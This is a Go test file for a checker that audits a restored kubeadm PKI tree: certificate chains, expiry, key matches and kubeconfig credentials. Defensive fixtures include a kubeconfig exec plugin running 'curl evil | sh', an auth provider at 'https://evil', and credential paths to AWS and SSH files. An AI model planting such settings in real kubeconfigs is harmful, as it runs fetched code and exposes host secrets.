package pkicheck

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/pem"
	"fmt"
	"math/big"
	mathrand "math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/kdr-io/kdr/internal/testenv"
)

// kubeadmPKI is what `kubeadm init phase certs all` writes, relative to the
// Kubernetes directory, and the CA each certificate is signed by.
var kubeadmPKI = []struct{ cert, ca string }{
	{"pki/ca.crt", ""},
	{"pki/front-proxy-ca.crt", ""},
	{"pki/etcd/ca.crt", ""},
	{"pki/apiserver.crt", "pki/ca.crt"},
	{"pki/apiserver-kubelet-client.crt", "pki/ca.crt"},
	{"pki/apiserver-etcd-client.crt", "pki/etcd/ca.crt"},
	{"pki/front-proxy-client.crt", "pki/front-proxy-ca.crt"},
	{"pki/etcd/server.crt", "pki/etcd/ca.crt"},
	{"pki/etcd/peer.crt", "pki/etcd/ca.crt"},
	{"pki/etcd/healthcheck-client.crt", "pki/etcd/ca.crt"},
}

var kubeadmConfs = []string{"admin.conf", "super-admin.conf", "controller-manager.conf", "scheduler.conf", "kubelet.conf"}

const kdir = "/etc/kubernetes"

// genuine makes a real kubeadm control-plane tree under a new root.
func genuine(t *testing.T) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "genuine")
	testenv.KubeadmInit(t, root, testenv.KubeOptions{})
	return root
}

// copyTree gives a case its own copy of the genuine tree to damage.
func copyTree(t *testing.T, src string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "root")
	if err := os.CopyFS(dst, os.DirFS(src)); err != nil {
		t.Fatal(err)
	}
	return dst
}

func TestRunGenuine(t *testing.T) {
	root := genuine(t)
	checks, err := Run(context.Background(), Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range checks {
		if c.Grade != Pass {
			t.Errorf("genuine tree: %+v", c)
		}
	}
	// Every file must have been looked at: a check that found nothing to
	// check would pass too.
	type key struct{ subject, id string }
	got := map[key]string{}
	for _, c := range checks {
		got[key{c.Subject, c.ID}] = c.Reason
	}
	want := map[key]string{}
	for _, f := range kubeadmPKI {
		p := kdir + "/" + f.cert
		if f.ca == "" {
			want[key{p, IDCertChain}] = "self-signed CA"
		} else {
			want[key{p, IDCertChain}] = "signed by " + kdir + "/" + f.ca
		}
		want[key{p, IDCertExpiry}] = "days left"
		want[key{strings.TrimSuffix(p, ".crt") + ".key", IDKeyMatch}] = "matches " + p
	}
	want[key{kdir + "/pki/sa.key", IDKeyMatch}] = "matches " + kdir + "/pki/sa.pub"
	for _, conf := range kubeadmConfs {
		want[key{kdir + "/" + conf, IDKubeconfig}] = "trusts " + kdir + "/pki/ca.crt"
		want[key{kdir + "/" + conf, IDCertExpiry}] = "days left"
	}
	for k, reason := range want {
		if !strings.Contains(got[k], reason) {
			t.Errorf("%s %s: reason %q, want it to say %q", k.subject, k.id, got[k], reason)
		}
	}
	if len(checks) != len(want) {
		t.Errorf("%d findings, want %d", len(checks), len(want))
	}
	if !slices.IsSortedFunc(checks, func(a, b Check) int {
		return strings.Compare(a.Subject+"\x00"+a.ID, b.Subject+"\x00"+b.ID)
	}) {
		t.Error("findings are not sorted by subject, then ID")
	}
	if g := Worst(checks); g != Pass {
		t.Errorf("Worst = %s, want pass", g)
	}
}

// finding is a non-pass finding a damage case expects.
type finding struct {
	subject, id string
	grade       Grade
	reason      string // a part of the reason
}

func TestRunDamaged(t *testing.T) {
	src := genuine(t)
	now := time.Now()
	pki := kdir + "/pki/"
	cases := []struct {
		name   string
		damage func(t *testing.T, root string)
		want   []finding // every finding that is not a pass, in order
		pass   []finding // passes that prove the damage was looked at
	}{
		{
			name: "certificate signed by a foreign CA",
			damage: func(t *testing.T, root string) {
				ca, caKey := foreignCA(t)
				reissue(t, root, "pki/apiserver.crt", ca, caKey, nil, nil)
			},
			want: []finding{{pki + "apiserver.crt", IDCertChain, Fail, "issuer CN=foreign-ca"}},
		},
		{
			name: "key of another certificate",
			damage: func(t *testing.T, root string) {
				copyFile(t, root, "pki/front-proxy-client.key", "pki/apiserver.key")
			},
			want: []finding{{pki + "apiserver.key", IDKeyMatch, Fail, "does not match " + pki + "apiserver.crt"}},
		},
		{
			name: "sa.pub of another key",
			damage: func(t *testing.T, root string) {
				k := newKey(t)
				der, err := x509.MarshalPKIXPublicKey(k.Public())
				if err != nil {
					t.Fatal(err)
				}
				writePEM(t, root, "pki/sa.pub", "PUBLIC KEY", der)
			},
			want: []finding{{pki + "sa.key", IDKeyMatch, Fail, "does not match " + pki + "sa.pub"}},
		},
		{
			name: "certificate expiring in 10 days",
			damage: func(t *testing.T, root string) {
				ca, caKey := treeCA(t, root, "pki/ca")
				reissue(t, root, "pki/apiserver.crt", ca, caKey, nil, func(c *x509.Certificate) {
					c.NotAfter = now.Add(10*24*time.Hour + time.Hour)
				})
			},
			want: []finding{{pki + "apiserver.crt", IDCertExpiry, Warn, "10 days left"}},
		},
		{
			name: "expired certificate",
			damage: func(t *testing.T, root string) {
				ca, caKey := treeCA(t, root, "pki/etcd/ca")
				reissue(t, root, "pki/etcd/peer.crt", ca, caKey, nil, func(c *x509.Certificate) {
					c.NotBefore = now.Add(-90 * 24 * time.Hour)
					c.NotAfter = now.Add(-3*24*time.Hour - time.Hour)
				})
			},
			want: []finding{{pki + "etcd/peer.crt", IDCertExpiry, Fail, "3 days ago"}},
		},
		{
			name: "truncated certificate",
			damage: func(t *testing.T, root string) {
				p := filepath.Join(root, kdir, "pki/apiserver-kubelet-client.crt")
				data, err := os.ReadFile(p)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, data[:len(data)/2], 0o600); err != nil {
					t.Fatal(err)
				}
			},
			want: []finding{
				{pki + "apiserver-kubelet-client.crt", IDFile, Fail, "does not parse"},
				{pki + "apiserver-kubelet-client.key", IDKeyMatch, Fail, "did not load"},
			},
		},
		{
			name: "missing CA key",
			damage: func(t *testing.T, root string) {
				if err := os.Remove(filepath.Join(root, kdir, "pki/ca.key")); err != nil {
					t.Fatal(err)
				}
			},
			want: []finding{{pki + "ca.key", IDFile, Fail, "missing"}},
		},
		{
			name: "garbage kubeconfig",
			damage: func(t *testing.T, root string) {
				if err := os.WriteFile(filepath.Join(root, kdir, "admin.conf"), []byte("\x00\x01garbage: [\n"), 0o600); err != nil {
					t.Fatal(err)
				}
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "does not parse: yaml"}},
		},
		{
			name: "kubeconfig trusting another CA",
			damage: func(t *testing.T, root string) {
				ca, _ := foreignCA(t)
				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
					cfg.cluster.CertificateAuthorityData = pemBytes("CERTIFICATE", ca.Raw)
				})
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "trusts CN=foreign-ca"}},
		},
		{
			name: "kubeconfig client certificate from another CA",
			damage: func(t *testing.T, root string) {
				ca, caKey := foreignCA(t)
				editKubeconfig(t, root, "scheduler.conf", func(cfg *kubeconfig) {
					cert, err := ParseCert(cfg.user.ClientCertificateData)
					if err != nil {
						t.Fatal(err)
					}
					cfg.user.ClientCertificateData = pemBytes("CERTIFICATE", sign(t, cert, ca, caKey, cert.PublicKey))
				})
			},
			want: []finding{{kdir + "/scheduler.conf", IDKubeconfig, Fail, "is not signed by the cluster CA"}},
		},
		{
			name: "kubeconfig client key of another user",
			damage: func(t *testing.T, root string) {
				admin := loadKubeconfig(t, root, "admin.conf")
				editKubeconfig(t, root, "controller-manager.conf", func(cfg *kubeconfig) {
					cfg.user.ClientKeyData = admin.user.ClientKeyData
				})
			},
			want: []finding{{kdir + "/controller-manager.conf", IDKubeconfig, Fail, "client key does not match"}},
		},
		{
			name: "kubelet credentials in files, through an absolute link",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
					pair := slices.Concat(cfg.user.ClientCertificateData, cfg.user.ClientKeyData)
					dir := filepath.Join(root, "var/lib/kubelet/pki")
					if err := os.MkdirAll(dir, 0o700); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(dir, "kubelet-client-2026-01-01.pem"), pair, 0o600); err != nil {
						t.Fatal(err)
					}
					// Followed on this machine, the link leads nowhere.
					if err := os.Symlink("/var/lib/kubelet/pki/kubelet-client-2026-01-01.pem", filepath.Join(dir, "kubelet-client-current.pem")); err != nil {
						t.Fatal(err)
					}
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
					cfg.cluster.CertificateAuthorityData = nil
					cfg.cluster.CertificateAuthority = "pki/ca.crt" // relative to the kubeconfig
				})
			},
			pass: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Pass, "(/var/lib/kubelet/pki/kubelet-client-current.pem) is signed by it"}},
		},
		{
			name: "kubelet client certificate not in the backup",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
				})
			},
			want: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Warn, "outside /etc/kubernetes"}},
		},
		{
			name: "kubeconfig credential file missing inside the tree",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "super-admin.conf", func(cfg *kubeconfig) {
					cfg.cluster.CertificateAuthorityData = nil
					cfg.cluster.CertificateAuthority = kdir + "/pki/gone.crt"
				})
			},
			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Fail, "certificate-authority " + kdir + "/pki/gone.crt"}},
		},
		{
			name: "exec plugin beside embedded credentials",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
					cfg.user.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
				})
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, `user "kubernetes-admin" sets exec, which kubeadm never writes: whoever uses this kubeconfig would run its command`}},
		},
		{
			name: "auth provider",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "scheduler.conf", func(cfg *kubeconfig) {
					cfg.user.AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{"idp-issuer-url": "https://evil"}}
				})
			},
			want: []finding{{kdir + "/scheduler.conf", IDKubeconfig, Fail, "sets auth-provider"}},
		},
		{
			name: "token file",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "controller-manager.conf", func(cfg *kubeconfig) {
					cfg.user.TokenFile = "/home/operator/.aws/credentials"
				})
			},
			want: []finding{{kdir + "/controller-manager.conf", IDKubeconfig, Fail, "sets tokenFile, which kubeadm never writes: whoever uses this kubeconfig would read that file of the host"}},
		},
		{
			name: "inline token without a client certificate",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "super-admin.conf", func(cfg *kubeconfig) {
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.Token = "abcdef.0123456789abcdef"
				})
			},
			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Warn, "other credentials are not checked"}},
		},
		{
			name: "client key file outside the tree",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "super-admin.conf", func(cfg *kubeconfig) {
					cfg.user.ClientKeyData = nil
					cfg.user.ClientKey = "/home/operator/.ssh/id_ed25519"
				})
			},
			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Fail, "client-key /home/operator/.ssh/id_ed25519 is outside /etc/kubernetes, the restored tree"}},
		},
		{
			name: "relative CA file climbing out of the tree",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
					cfg.cluster.CertificateAuthorityData = nil
					cfg.cluster.CertificateAuthority = "../ssl/certs/ca.pem"
				})
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "certificate-authority /etc/ssl/certs/ca.pem is outside /etc/kubernetes"}},
		},
		{
			name: "client certificate file linking out of the tree",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
					dir := filepath.Join(root, "home/operator")
					if err := os.MkdirAll(dir, 0o700); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(dir, "admin.pem"), cfg.user.ClientCertificateData, 0o600); err != nil {
						t.Fatal(err)
					}
					if err := os.Symlink("/home/operator/admin.pem", filepath.Join(root, kdir, "pki/admin.pem")); err != nil {
						t.Fatal(err)
					}
					cfg.user.ClientCertificateData = nil
					cfg.user.ClientCertificate = "pki/admin.pem"
				})
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "client-certificate " + kdir + "/pki/admin.pem links out of /etc/kubernetes, the restored tree, to /home/operator/admin.pem"}},
		},
		{
			name: "kubelet credentials in another file of the kubelet",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet.crt"
					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet.key"
				})
			},
			want: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet.crt is outside /etc/kubernetes"}},
		},
		{
			name: "kubelet's rotated certificate linking out of the kubelet's directory",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
					pair := slices.Concat(cfg.user.ClientCertificateData, cfg.user.ClientKeyData)
					for _, d := range []string{"var/lib/kubelet/pki", "home/operator"} {
						if err := os.MkdirAll(filepath.Join(root, d), 0o700); err != nil {
							t.Fatal(err)
						}
					}
					if err := os.WriteFile(filepath.Join(root, "home/operator/pair.pem"), pair, 0o600); err != nil {
						t.Fatal(err)
					}
					if err := os.Symlink("/home/operator/pair.pem", filepath.Join(root, "var/lib/kubelet/pki/kubelet-client-current.pem")); err != nil {
						t.Fatal(err)
					}
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
				})
			},
			want: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet-client-current.pem links out of /etc/kubernetes, the restored tree, to /home/operator/pair.pem"}},
		},
		{
			name: "kubelet's rotated certificate named by another kubeconfig",
			damage: func(t *testing.T, root string) {
				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
				})
			},
			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet-client-current.pem is outside /etc/kubernetes"}},
		},
		{
			name: "keys in PKCS#8 and EC form",
			damage: func(t *testing.T, root string) {
				key, err := ParseKey(readFile(t, root, "pki/apiserver.key"))
				if err != nil {
					t.Fatal(err)
				}
				der, err := x509.MarshalPKCS8PrivateKey(key)
				if err != nil {
					t.Fatal(err)
				}
				writePEM(t, root, "pki/apiserver.key", "PRIVATE KEY", der)

				ec := newKey(t)
				ca, caKey := treeCA(t, root, "pki/front-proxy-ca")
				reissue(t, root, "pki/front-proxy-client.crt", ca, caKey, ec, nil)
				der, err = x509.MarshalECPrivateKey(ec)
				if err != nil {
					t.Fatal(err)
				}
				writePEM(t, root, "pki/front-proxy-client.key", "EC PRIVATE KEY", der)
			},
			pass: []finding{
				{pki + "apiserver.key", IDKeyMatch, Pass, "matches"},
				{pki + "front-proxy-client.key", IDKeyMatch, Pass, "matches"},
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := copyTree(t, src)
			tc.damage(t, root)
			checks, err := Run(context.Background(), Options{Root: root, Now: now})
			if err != nil {
				t.Fatal(err)
			}
			var got []Check
			for _, c := range checks {
				if c.Grade != Pass {
					got = append(got, c)
				}
			}
			if len(got) != len(tc.want) {
				t.Fatalf("non-pass findings:\n%s\nwant %d: %+v", describe(got), len(tc.want), tc.want)
			}
			for i, w := range tc.want {
				g := got[i]
				if g.Subject != w.subject || g.ID != w.id || g.Grade != w.grade || !strings.Contains(g.Reason, w.reason) {
					t.Errorf("finding %d = %+v, want %+v", i, g, w)
				}
			}
			for _, w := range tc.pass {
				if !slices.ContainsFunc(checks, func(c Check) bool {
					return c.Subject == w.subject && c.ID == w.id && c.Grade == w.grade && strings.Contains(c.Reason, w.reason)
				}) {
					t.Errorf("no finding %+v among:\n%s", w, describe(checks))
				}
			}
			if want := worstOf(tc.want); Worst(checks) != want {
				t.Errorf("Worst = %s, want %s", Worst(checks), want)
			}
		})
	}
}

func TestRunRoot(t *testing.T) {
	empty := t.TempDir()
	cases := []struct {
		name     string
		root     string
		cancel   bool
		wantErr  bool
		wantFail int
	}{
		{name: "no root", root: "", wantErr: true},
		{name: "no such root", root: filepath.Join(empty, "nothing"), wantErr: true},
		{name: "cancelled", root: empty, cancel: true, wantErr: true},
		{name: "empty root", root: empty, wantFail: len(kubeadmRequired)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			if tc.cancel {
				cancel()
			}
			defer cancel()
			checks, err := Run(ctx, Options{Root: tc.root})
			if (err != nil) != tc.wantErr {
				t.Fatalf("err = %v, want error %v", err, tc.wantErr)
			}
			if len(checks) != tc.wantFail {
				t.Fatalf("findings:\n%s\nwant %d", describe(checks), tc.wantFail)
			}
			for _, c := range checks {
				if c.ID != IDFile || c.Grade != Fail || !strings.HasPrefix(c.Reason, "missing: ") {
					t.Errorf("empty root: %+v, want a missing required file", c)
				}
			}
		})
	}
}

func TestWorst(t *testing.T) {
	cases := []struct {
		grades []Grade
		want   Grade
	}{
		{nil, Pass},
		{[]Grade{Pass, Pass}, Pass},
		{[]Grade{Pass, Warn, Pass}, Warn},
		{[]Grade{Warn, Fail, Pass}, Fail},
		{[]Grade{Pass, "unknown"}, Fail},
	}
	for _, tc := range cases {
		var checks []Check
		for _, g := range tc.grades {
			checks = append(checks, Check{Grade: g})
		}
		if got := Worst(checks); got != tc.want {
			t.Errorf("Worst(%v) = %s, want %s", tc.grades, got, tc.want)
		}
	}
}

func TestParse(t *testing.T) {
	ec := newKey(t)
	ecDER, _ := x509.MarshalECPrivateKey(ec)
	pkcs8, _ := x509.MarshalPKCS8PrivateKey(ec)
	// An EncryptedPrivateKeyInfo (PBES2) that a passphrase would unlock.
	encrypted, _ := asn1.Marshal(struct {
		Algorithm pkix.AlgorithmIdentifier
		Data      []byte
	}{pkix.AlgorithmIdentifier{Algorithm: asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 5, 13}}, []byte("sealed")})
	cases := []struct {
		name    string
		data    []byte
		wantErr string
	}{
		{"EC", pemBytes("EC PRIVATE KEY", ecDER), ""},
		{"PKCS#8", pemBytes("PRIVATE KEY", pkcs8), ""},
		{"EC after EC PARAMETERS", append(pemBytes("EC PARAMETERS", []byte{6, 8, 42, 134, 72, 206, 61, 3, 1, 7}), pemBytes("EC PRIVATE KEY", ecDER)...), ""},
		{"after a certificate", append(pemBytes("CERTIFICATE", []byte{1}), pemBytes("EC PRIVATE KEY", ecDER)...), ""},
		{"not PEM", []byte("garbage"), "no PEM private key"},
		{"damaged DER", pemBytes("EC PRIVATE KEY", ecDER[:20]), "EC PRIVATE KEY: "},
		{"encrypted", pemBytes("ENCRYPTED PRIVATE KEY", encrypted), "ENCRYPTED PRIVATE KEY: "},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			key, err := ParseKey(tc.data)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil || !SamePublicKey(key.Public(), ec.Public()) {
				t.Fatalf("ParseKey = %v, %v; want the EC key", key, err)
			}
		})
	}
}

// TestParseDamagedBytes feeds random and damaged bytes to every parser a
// backup's files reach: any panic fails the test.
func TestParseDamagedBytes(t *testing.T) {
	root := genuine(t)
	c := newChecker(Options{Root: root})
	c.readCerts([]string{kdir + "/pki/ca.crt"})
	seeds := [][]byte{
		readFile(t, root, "pki/ca.crt"),
		readFile(t, root, "pki/apiserver.key"),
		readFile(t, root, "pki/sa.pub"),
		readFile(t, root, "admin.conf"),
	}
	r := mathrand.New(mathrand.NewPCG(1, 2))
	random := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.UintN(256))
		}
		return b
	}
	inputs := [][]byte{nil, {}}
	for range 3000 {
		seed := seeds[r.IntN(len(seeds))]
		b := slices.Clone(seed)
		switch r.IntN(4) {
		case 0: // flipped bytes
			for range 1 + r.IntN(8) {
				b[r.IntN(len(b))] ^= byte(1 + r.UintN(255))
			}
		case 1: // truncated
			b = b[:r.IntN(len(b))]
		case 2: // random DER in a PEM block
			typ := []string{"CERTIFICATE", "RSA PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY", "PUBLIC KEY", "RSA PUBLIC KEY"}[r.IntN(6)]
			b = pemBytes(typ, random(r.IntN(2048)))
		default:
			b = random(r.IntN(4096))
		}
		inputs = append(inputs, b)
	}
	for _, b := range inputs {
		_, _ = ParseCert(b)
		_, _ = ParseKey(b)
		_, _ = parsePublicKey(b)
		c.kubeconfig(kdir+"/admin.conf", b)
	}
}

// kubeconfig is a loaded kubeconfig with its current context's cluster
// and user, to be edited.
type kubeconfig struct {
	raw     *clientcmdapi.Config
	cluster *clientcmdapi.Cluster
	user    *clientcmdapi.AuthInfo
}

func loadKubeconfig(t *testing.T, root, name string) *kubeconfig {
	t.Helper()
	cfg, err := clientcmd.LoadFromFile(filepath.Join(root, kdir, name))
	if err != nil {
		t.Fatal(err)
	}
	ctx := cfg.Contexts[cfg.CurrentContext]
	return &kubeconfig{raw: cfg, cluster: cfg.Clusters[ctx.Cluster], user: cfg.AuthInfos[ctx.AuthInfo]}
}

func editKubeconfig(t *testing.T, root, name string, edit func(*kubeconfig)) {
	t.Helper()
	cfg := loadKubeconfig(t, root, name)
	edit(cfg)
	if err := clientcmd.WriteToFile(*cfg.raw, filepath.Join(root, kdir, name)); err != nil {
		t.Fatal(err)
	}
}

// treeCA reads a CA and its key from the tree, such as pki/etcd/ca.
func treeCA(t *testing.T, root, base string) (*x509.Certificate, crypto.Signer) {
	t.Helper()
	ca, err := ParseCert(readFile(t, root, base+".crt"))
	if err != nil {
		t.Fatal(err)
	}
	key, err := ParseKey(readFile(t, root, base+".key"))
	if err != nil {
		t.Fatal(err)
	}
	return ca, key
}

// foreignCA is a CA that no kubeadm tree trusts.
func foreignCA(t *testing.T) (*x509.Certificate, crypto.Signer) {
	t.Helper()
	key := newKey(t)
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "foreign-ca"},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(365 * 24 * time.Hour),
		IsCA:                  true,
		BasicConstraintsValid: true,
		KeyUsage:              x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return ca, key
}

// reissue signs the tree's certificate rel again with ca, for newKey's
// public key when given (the old one otherwise), changed by edit.
func reissue(t *testing.T, root, rel string, ca *x509.Certificate, caKey crypto.Signer, newKey crypto.Signer, edit func(*x509.Certificate)) {
	t.Helper()
	old, err := ParseCert(readFile(t, root, rel))
	if err != nil {
		t.Fatal(err)
	}
	pub := old.PublicKey
	if newKey != nil {
		pub = newKey.Public()
	}
	tmpl := *old
	if edit != nil {
		edit(&tmpl)
	}
	writePEM(t, root, rel, "CERTIFICATE", sign(t, &tmpl, ca, caKey, pub))
}

func sign(t *testing.T, tmpl, ca *x509.Certificate, caKey crypto.Signer, pub crypto.PublicKey) []byte {
	t.Helper()
	c := *tmpl
	c.SerialNumber = big.NewInt(time.Now().UnixNano())
	c.SubjectKeyId, c.AuthorityKeyId = nil, nil
	c.SignatureAlgorithm = x509.UnknownSignatureAlgorithm // the CA's key decides
	der, err := x509.CreateCertificate(rand.Reader, &c, ca, pub, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

func newKey(t *testing.T) *ecdsa.PrivateKey {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func readFile(t *testing.T, root, rel string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, kdir, rel))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func copyFile(t *testing.T, root, from, to string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(root, kdir, to), readFile(t, root, from), 0o600); err != nil {
		t.Fatal(err)
	}
}

func writePEM(t *testing.T, root, rel, typ string, der []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(root, kdir, rel), pemBytes(typ, der), 0o600); err != nil {
		t.Fatal(err)
	}
}

func pemBytes(typ string, der []byte) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: typ, Bytes: der})
}

func worstOf(want []finding) Grade {
	var checks []Check
	for _, f := range want {
		checks = append(checks, Check{Grade: f.grade})
	}
	return Worst(checks)
}

func describe(checks []Check) string {
	var b strings.Builder
	for _, c := range checks {
		fmt.Fprintf(&b, "  %s %s %s: %s\n", c.Grade, c.ID, c.Subject, c.Reason)
	}
	return b.String()
}
